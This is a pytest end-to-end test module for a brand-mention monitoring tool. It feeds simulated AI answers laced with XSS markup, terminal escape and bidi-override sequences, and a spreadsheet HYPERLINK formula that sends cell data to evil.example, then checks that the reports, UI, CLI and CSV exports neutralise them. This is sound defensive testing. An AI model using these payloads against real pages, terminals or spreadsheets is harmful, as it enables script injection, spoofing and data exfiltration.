"""Readings as people meet them: hostile answers shown, cases decided, names changed and everything read again.

One project on one platform, whose simulated answers are given (`GEO_ANSWERS`): texts that try to act wherever they are
shown, and a name that only a person can decide. Asked once; everything after that calls nobody.
"""

import csv
import json
import os
import re
import shutil
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import duckdb
import pytest

from geo_assets.simulator.calllog import read_call_log
from geo_assets_tests.endtoend.graphql import serve
from geo_assets_tests.endtoend.projects import add_alias, bytes_below, geo, make_project, run, write

pytestmark = [pytest.mark.slow, pytest.mark.timeout(1500)]

LONG = pytest.mark.skipif(not os.environ.get("GEO_LONG_TESTS"), reason="takes minutes: set GEO_LONG_TESTS=1 to run it")
BROWSER = next((p for p in map(shutil.which, ("chromium", "chromium-browser", "google-chrome")) if p), None)
OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\U000e0000-\U000e007f]")
"""What a terminal would act on; line feeds and tabs are layout."""
MARKUP = (
    "<script>window.pwned=1</script><img src=https://evil.example/p.png onerror=window.pwned=1>"
    "<svg onload=window.pwned=1><style>*{display:none}</style><div style='position:fixed;inset:0'>x</div>"
    "![p](https://evil.example/q.png)[click](javascript:window.pwned=1)"
    "<iframe srcdoc='<script>parent.pwned=1</script>'>"
)
ESCAPES = "\x1b[2J\x1b]0;owned\x07\x1b]8;;https://evil.example\x1b\\link\x9b31m\u202egnp.exe\u2066\r\x08\U000e0041"
FORMULA = '=HYPERLINK("https://evil.example?"&A1,"x")'
TEXTS = {
    "attack": f"1. Rivalix {MARKUP}\n2. Rivalix: {ESCAPES} and so on\n3. {MARKUP}\n\n"
    f"| {MARKUP} | b |\n|---|---|\n| Rivalix | {FORMULA} |",
    "doubt": f"{FORMULA} 至于小米，看个人。{MARKUP}{ESCAPES}",
    "list": "1. Rivalix: fine\n2. Vexmori: lighter\n3. Brennig Labs: newer",
    "plain": f"Quietly, Vexmori is good {ESCAPES}{MARKUP}. Rivalix too.",
}
SOURCES = [
    {"url": f"https://evil.example/{'<img/src=x/onerror=window.pwned=1>'}", "title": f"{MARKUP}{ESCAPES}"},
    {"url": "javascript:window.pwned=1", "title": FORMULA},
    {"url": "https://qlora.example/page", "title": "own page"},
]
ANALYSIS = ["answers", "brand_mentions", "untracked_names", "citations", "visibility_metrics"]
READ = ["brand_mentions", "untracked_names", "citations"]


@dataclass(frozen=True)
class Project:
    folder: Path
    date: str
    env: dict[str, str]

    @property
    def calls(self) -> list[object]:
        return list(read_call_log(self.folder / "simulated/simulator/calls.jsonl"))

    def sql(self, query: str) -> list[tuple[Any, ...]]:
        lake = self.folder / "simulated/lake"
        return duckdb.sql(re.sub(r"\{(\w+)\}", rf"read_parquet('{lake}/\1/**/*.parquet')", query)).fetchall()

    def geo(self, *arguments: str, check: bool = True) -> str:
        done = geo(self.folder, *arguments, check=check, **self.env)
        return done.stdout if done.returncode == 0 else done.stderr


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Project:
    folder = make_project(tmp_path_factory.mktemp("readings") / "data", platforms=("qwen",), monitors=())
    rows = [
        {"question": f"What about {name}?", "answer_text": text, "citations": SOURCES} for name, text in TEXTS.items()
    ]
    answers = folder / "answers.jsonl"
    answers.write_text("".join(json.dumps(r) + "\n" for r in rows), "utf-8")
    monitor = {
        "id": "notes",
        "tenant": "demo",
        "language": "en",
        "brand": {"id": "qlora", "name": "Qlora", "owned_sources": [{"host": "qlora.example"}]},
        "competitors": [{"id": "rivalix", "name": "Rivalix"}, {"id": "mi", "name": "小米"}],
        "questions": [{"id": name, "text": f"What about {name}?"} for name in TEXTS],
        "platforms": [{"id": "qwen"}],
    }
    write(folder / "monitors/notes.yaml", monitor)
    env = {"GEO_ANSWERS": str(answers)}
    assert run(folder, **env)["failed"] == {}
    date = json.loads(geo(folder, "status", "--json", **env).stdout)["date"]
    return Project(folder, date, env)


def samples(project: Project) -> list[tuple[str, str]]:
    return project.sql("select sample_id, question_id from {answers} order by 2")


def test_hostile_answers_arrive_as_they_were_sent(project: Project) -> None:
    found = dict(project.sql("select question_id, text from {answers}"))
    assert found == TEXTS


@pytest.mark.skipif(BROWSER is None, reason="no Chromium on this machine; install it to run the browser tests")
def test_the_report_of_hostile_answers_does_nothing_in_a_browser(project: Project) -> None:
    from playwright.sync_api import sync_playwright

    page_file = project.folder / f"simulated/report/date={project.date}/report.html"
    asked: list[str] = []
    said: list[str] = []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=BROWSER, args=["--no-sandbox", "--disable-dev-shm-usage", "--disable-gpu"]
        )
        page = browser.new_page(viewport={"width": 1180, "height": 900})
        page.on("request", lambda request: asked.append(request.url))
        page.on("console", lambda message: said.append(message.text))
        page.on("dialog", lambda dialog: said.append(dialog.message))
        page.goto(page_file.as_uri())
        page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
        page.wait_for_timeout(300)
        assert asked == [page_file.as_uri()]
        assert said == []
        assert page.evaluate("window.pwned") is None
        assert page.evaluate("document.querySelectorAll('script,img,iframe,object,embed,link,form,base').length") == 0
        assert page.evaluate("document.querySelectorAll('a:not([href^=\"#\"])').length") == 0
        handlers = "[...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a => /^on/i.test(a.name)))"
        assert page.evaluate(f"{handlers}.length") == 0
        # What was sent is there to be read, as text.
        assert "<script>window.pwned=1</script>" in page.inner_text("body")
        assert page.locator("h1").is_visible()
        browser.close()
    text = page_file.read_text("utf-8")
    assert OBEYED.findall(text) == []


def test_nothing_that_the_ui_shows_of_hostile_answers_is_markup(project: Project) -> None:
    import dagster as dg
    from markdown_it import MarkdownIt

    parser = MarkdownIt("commonmark", {"html": True, "linkify": False}).enable(["table", "strikethrough"])
    seen: dict[str, int] = {}
    with dg.DagsterInstance.from_config(str(project.folder / "simulated/dagster")) as instance:
        for key in instance.all_asset_keys():
            event = instance.get_latest_materialization_event(key)
            assert event is not None
            assert event.asset_materialization is not None
            for name, value in event.asset_materialization.metadata.items():
                if not isinstance(value, dg.MarkdownMetadataValue):
                    continue
                seen[key.path[-1]] = seen.get(key.path[-1], 0) + 1
                tokens = [t for block in parser.parse(value.value or "") for t in [block, *(block.children or ())]]
                acting = [t.type for t in tokens if t.type in {"html_inline", "html_block", "link_open", "image"}]
                assert acting == [], (key, name)
                assert OBEYED.findall(value.value or "") == [], (key, name)
    assert set(READ) | {"answers"} <= seen.keys()


def test_commands_print_nothing_that_a_terminal_would_obey(project: Project, tmp_path: Path) -> None:
    for sample, _ in samples(project):
        for arguments in (("show", sample), ("show", sample, "--json")):
            assert OBEYED.findall(project.geo(*arguments)) == [], arguments
    [(attack, _)] = [s for s in samples(project) if s[1] == "attack"]
    assert json.loads(project.geo("show", attack, "--json"))["reply"]["answer"]["text"] == TEXTS["attack"]
    exported = tmp_path / "cases.jsonl"
    project.geo("review", "export", str(exported), "--date", project.date)
    assert OBEYED.findall(exported.read_text("utf-8")) == []


def test_names_that_nobody_tracks_are_a_table_with_place_and_example(project: Project) -> None:
    rows = project.sql(
        "select name, answers, answers_read, best_list_rank, example_context, simulated "
        "from {untracked_names} order by 1"
    )
    usable = len(TEXTS)
    context = "1. Rivalix: fine 2. Vexmori: lighter 3. Brennig Labs: newer"
    assert rows == [("Brennig Labs", 1, usable, 3, context, True), ("Vexmori", 1, usable, 2, context, True)]
    page = (project.folder / f"simulated/report/date={project.date}/report.html").read_text("utf-8")
    assert "Brennig Labs" in page
    assert "Names that nobody tracks" in page


def decided(cases: Path, filled: Path, **values: str) -> None:
    with cases.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    with filled.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, rows[0])
        writer.writeheader()
        writer.writerows({**row, **values} if row["brand"] == "mi" else row for row in rows)


@LONG
def test_a_case_is_exported_decided_and_applied_and_evidence_stays(project: Project, tmp_path: Path) -> None:
    cases, filled = tmp_path / "cases.csv", tmp_path / "filled.csv"
    assert "1 cases" in project.geo("review", "export", str(cases), "--date", project.date)
    with cases.open(encoding="utf-8-sig", newline="") as file:
        [case] = csv.DictReader(file)
    assert (case["brand"], case["field"], case["guess"], case["choices"]) == ("mi", "mentioned", "no", "yes | no")
    assert "小米" in case["context"]
    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in case.values())
    page = (project.folder / f"simulated/report/date={project.date}/report.html").read_text("utf-8")
    assert f"geo review decide {case['sample_id'][:16]} --brand mi" in page

    good = {"decision": "yes", "why": "the phone", "who": "Li"}
    for changed, message in (
        ({"sample_id": "nobody"}, "filled.csv, line 2, sample_id: sample 'nobody' is not in the ledger"),
        ({"evidence": "0" * 64}, "filled.csv, line 2, evidence: '0000000000000000' is no response of this sample"),
        ({"brand": "zz"}, "filled.csv, line 2, brand: 'zz' is none of the brands of notes: qlora, rivalix, mi"),
        ({"field": "colour"}, "filled.csv, line 2, field: 'colour' is none of validity, mentioned"),
        ({"who": ""}, "filled.csv, line 2, who: is empty"),
    ):
        decided(cases, filled, **{**good, **changed})
        assert message in project.geo("review", "import", str(filled), check=False)
    decided(cases, filled, **good)
    with filled.open("a", encoding="utf-8", newline="") as file:
        file.write(filled.read_text("utf-8").splitlines(keepends=True)[-1])
    assert "line 3: this case is decided in" in project.geo("review", "import", str(filled), check=False)
    book = project.folder / "reviews/simulated.jsonl"
    assert not book.exists()

    decided(cases, filled, **good)
    assert "1 decisions recorded" in project.geo("review", "import", str(filled))
    assert "0 decisions recorded" in project.geo("review", "import", str(filled))
    [line] = [json.loads(line) for line in book.read_text("utf-8").splitlines()]
    assert {k: line[k] for k in ("who", "why", "decision", "dictionary_hash", "sample_id")} == {
        "who": "Li", "why": "the phone", "decision": "yes", "dictionary_hash": case["dictionary_hash"],
        "sample_id": case["sample_id"],
    }  # fmt: skip
    assert line["when"].endswith("+00:00")
    evidence, asked = bytes_below(project.folder, "evidence"), project.calls
    run(project.folder, "--date", project.date, **project.env)
    [(mentioned, review, reason)] = project.sql(
        "select mentioned, review, review_reason from {brand_mentions} "
        f"where brand = 'mi' and sample_id = '{case['sample_id']}'"
    )
    assert (mentioned, review, reason) == (True, False, "decided by Li: the phone")
    assert bytes_below(project.folder, "evidence") == evidence
    assert project.calls == asked
    assert "0 cases" in project.geo("review", "export", str(cases), "--date", project.date)

    # A person may change their mind; the newest decision holds.
    decide = (
        "review",
        "decide",
        case["sample_id"][:16],
        "--brand",
        "mi",
        "--who",
        "Li",
        "--why",
        "the grain after all",
    )
    assert "decision: 'perhaps' is none of yes, no" in project.geo(*decide, "--decision", "perhaps", check=False)
    assert "1 decisions recorded" in project.geo(*decide, "--decision", "no")
    [change] = json.loads(project.geo("diff", "--json", "--date", project.date))
    assert (change["brand"], change["change"]) == ("mi", "lost")


@pytest.fixture
def other_rules(tmp_path: Path) -> dict[str, str]:
    """An environment in which the rules of reading are of another version."""
    (tmp_path / "sitecustomize.py").write_text(
        "import geo_assets.analysis.version as v\nv.READER += '-next'\n", "utf-8"
    )
    return {"PYTHONPATH": f"{tmp_path}{os.pathsep}{os.environ.get('PYTHONPATH', '')}"}


def statuses(found: dict[str, tuple[str, list[tuple[str, str]]]]) -> set[str]:
    return {status for status, _ in found.values()}


@LONG
def test_changed_names_and_rules_make_past_readings_stale_and_a_backfill_reads_them_again_without_a_call(
    project: Project, other_rules: dict[str, str]
) -> None:
    asked, evidence = project.calls, bytes_below(project.folder, "evidence")
    day = f"{project.date}|qwen"
    names = ("DATA", "dictionaries")
    with serve(project.folder, **project.env) as ui:
        add_alias(project.folder / "monitors/notes.yaml", "Vexmori")
        gained = [
            c for c in json.loads(project.geo("diff", "--json", "--date", project.date)) if c["change"] == "gained"
        ]
        assert {c["brand"] for c in gained} == {"qlora"}
        assert all("Vexmori" in c["context"] for c in gained)
        for arguments in (("diff", "--date", project.date), ("diff", "--date", project.date, "--json")):
            shown = project.geo(*arguments)
            assert "gained" in shown
            assert OBEYED.findall(shown) == []
        assert statuses(ui.staleness(day, *ANALYSIS)) == {"FRESH"}, "nothing is noted yet"
        ui.run_job("reading_inputs")
        found = ui.staleness(day, "answers", *READ)
        assert all(found[name][0] == "STALE" and names in found[name][1] for name in READ), found
        assert names not in found["answers"][1]
        # Two tables come from one pass over the texts, and one of them can be made alone.
        ui.wait_for_backfill(ui.backfill(["untracked_names"], [day]))
        alone = ui.staleness(day, "brand_mentions", "untracked_names")
        assert {name: status for name, (status, _) in alone.items()} == {
            "brand_mentions": "STALE",
            "untracked_names": "FRESH",
        }

        ui.wait_for_backfill(ui.backfill(ANALYSIS, [day]))
        assert statuses(ui.staleness(day, *ANALYSIS)) == {"FRESH"}
    recorded = [f.read_text("utf-8") for f in (project.folder / "simulated/reading-changes").rglob("*.jsonl")]
    assert any("Vexmori" in text for text in recorded)
    assert all(OBEYED.findall(text) == [] for text in recorded)
    named = project.sql("select sample_id from {brand_mentions} where brand = 'qlora' and mentioned")
    assert {s for (s,) in named} == {c["sample"] for c in gained}
    assert project.sql("select name from {untracked_names}") == [("Brennig Labs",)]
    assert project.calls == asked
    assert bytes_below(project.folder, "evidence") == evidence

    with serve(project.folder, **project.env, **other_rules) as ui:
        found = ui.staleness(day, "answers", *READ)
    assert statuses(found) == {"STALE"}
    assert found["answers"][1] == [("CODE", "answers")]
    assert all({category for category, _ in found[name][1]} == {"CODE"} for name in READ), found
